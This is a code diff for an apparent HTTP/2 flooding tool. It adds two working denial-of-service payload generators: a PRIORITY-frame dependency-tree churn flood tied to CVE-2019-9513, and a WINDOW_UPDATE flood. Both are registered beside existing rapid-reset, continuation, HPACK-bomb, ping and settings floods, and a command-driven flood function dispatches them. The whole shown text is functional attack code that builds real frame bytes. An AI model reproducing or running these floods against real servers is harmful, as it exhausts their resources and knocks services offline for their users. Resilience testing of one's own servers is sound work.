@@ -275,8 +275,31 @@ def empty_data_flood(connection: Connection):
     return first, DataFrame(1, data=b"").serialize() * (CHUNK // 9)
 
 
+def priority_flood(connection: Connection):
+    """PRIORITY frames on ever new idle streams, each made the exclusive parent of the last
+    (CVE-2019-9513's dependency-tree churn): no answer is due, each costs the tree's upkeep."""
+    state = {"next": 1}
+
+    def more():
+        out = bytearray()
+        while len(out) < CHUNK:
+            stream_id = state["next"]
+            state["next"] += 2
+            depends_on = (max(stream_id - 2, 0)) | 0x80000000  # exclusive
+            out += frame_header(5, 0x2, 0, stream_id) + struct.pack(">IB", depends_on, 255)
+        return bytes(out)
+
+    return b"", more
+
+
+def window_update_flood(connection: Connection):
+    """WINDOW_UPDATE frames of 1 on the connection: no answer is due, each costs a frame's work."""
+    return b"", (frame_header(4, 0x8, 0, 0) + struct.pack(">I", 1)) * (CHUNK // 13)
+
+
 SHAPES = {"continuation": continuation_flood, "settings": settings_flood, "ping": ping_flood,
-          "rapid_reset": rapid_reset, "hpack_bomb": hpack_bomb, "empty_data": empty_data_flood}
+          "rapid_reset": rapid_reset, "hpack_bomb": hpack_bomb, "empty_data": empty_data_flood,
+          "priority": priority_flood, "window_update": window_update_flood}
 
 
 def flood(command: dict) -> dict:
